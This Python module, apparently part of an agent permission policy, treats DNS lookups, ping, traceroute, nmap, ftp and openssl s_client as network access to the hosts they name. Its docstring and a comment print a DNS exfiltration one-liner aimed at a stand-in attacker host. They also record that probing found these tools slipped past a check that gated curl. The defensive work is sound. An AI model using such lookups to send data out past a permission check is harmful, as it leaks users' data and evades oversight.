"""Programs that reach the hosts they are given by name: DNS lookups (``dig``,
``nslookup``, ``host``, ``getent hosts``), ``ping``, route traces, ``whois``, plain file
transfer (``ftp``, ``tftp``), ``ssh-keyscan``, ``nmap`` and ``openssl s_client``.

Each host named is network access to it, asked of a worker as ``curl`` to it is. Found
probing: each was allowed, and a looked-up name carries data to its servers (``dig
$(base64 <x).attacker.example``).

>>> from exomonad.policy.shell_lex import Word
>>> lookup_client("ping", [Word("-c"), Word("1"), Word("h.example")], None)
[Network(host='h.example')]
>>> openssl_client("openssl", [Word("s_client"), Word("-connect"), Word("h.example:443")], None)
[Network(host='h.example')]
"""

from __future__ import annotations

from exomonad.policy.actions import Action, Network
from exomonad.policy.hosts import host_of
from exomonad.policy.shell_env import scan_options
from exomonad.policy.shell_lex import Word
from exomonad.policy.shell_reads import option_set

__all__ = ["LOOKUP_CLIENTS", "getent_client", "lookup_client", "openssl_client"]


#: Programs that reach the hosts they are given by name: DNS lookups (the name itself
#: reaches the name's servers: ``dig $(base64 <x).example.com`` carries data out),
#: ICMP, route tracing, whois, TLS probes and plain file transfer (found probing: each
#: was allowed, while ``curl`` to the same host is asked).
LOOKUP_CLIENTS = ("dig", "nslookup", "host", "drill", "delv", "ping", "ping6", "fping",
                  "traceroute", "traceroute6", "tracepath", "mtr", "whois", "ftp", "lftp",
                  "tftp", "ssh-keyscan", "nmap")  # fmt: skip
_LOOKUP_WITH_ARG = option_set(
    "-p -t -c -f -k -y -b -q -i -w -W -s -I -Q -l -M -N -R -m -h -T -P -u -U -o -x"
)
#: DNS classes and record types, and dig's ``+options``: no host.
_DNS_WORDS = option_set(
    "a aaaa mx txt ns cname soa ptr srv any caa ds dnskey https svcb naptr tlsa in ch hs axfr ixfr"
)


def lookup_client(name: str, args: list[Word], cwd: str | None) -> list[Action] | None:
    """Network access to each host a lookup, ping, trace or transfer names (``@SERVER``
    too, and ``-x ADDRESS``); ``openssl s_client -connect HOST:PORT`` likewise.

    >>> lookup_client("dig", [Word("@1.1.1.1"), Word("TXT"), Word("x.example.com")], None)
    [Network(host='1.1.1.1'), Network(host='x.example.com')]
    """
    del cwd
    positionals, opts = scan_options(args, _LOOKUP_WITH_ARG)
    named = [w for w in positionals if w.text.lower() not in _DNS_WORDS
             and not w.text.startswith("+")]  # fmt: skip
    named += [w for w in opts.get("-x", []) if w is not None]
    return [Network(None if w.dynamic else host_of(w.text.lstrip("@"))) for w in named] or None


#: ``getent`` databases whose keys are looked up in DNS.
_GETENT_DNS = frozenset({"hosts", "ahosts", "ahostsv4", "ahostsv6"})


def getent_client(name: str, args: list[Word], cwd: str | None) -> list[Action] | None:
    """``getent hosts NAME``: a DNS lookup of each name, as ``dig NAME`` (found probing:
    allowed, carrying data in the name). Other databases and no key: None.

    >>> getent_client("getent", [Word("ahosts"), Word("x.example.com")], None)
    [Network(host='x.example.com')]
    """
    del name, cwd
    words = [w for w in args if not w.text.startswith("-")]
    if not words[1:] or words[0].dynamic or words[0].text not in _GETENT_DNS:
        return None
    return [Network(None if w.dynamic else host_of(w.text)) for w in words[1:]]


def openssl_client(name: str, args: list[Word], cwd: str | None) -> list[Action] | None:
    """``openssl s_client -connect HOST:PORT`` (and ``-host``): network access to HOST."""
    del name, cwd
    if not args or args[0].text != "s_client":
        return None
    hosts = [args[i + 1] for i in range(len(args) - 1) if args[i].text in ("-connect", "-host")]
    return [Network(None if w.dynamic else host_of(w.text)) for w in hosts] or [Network(None)]
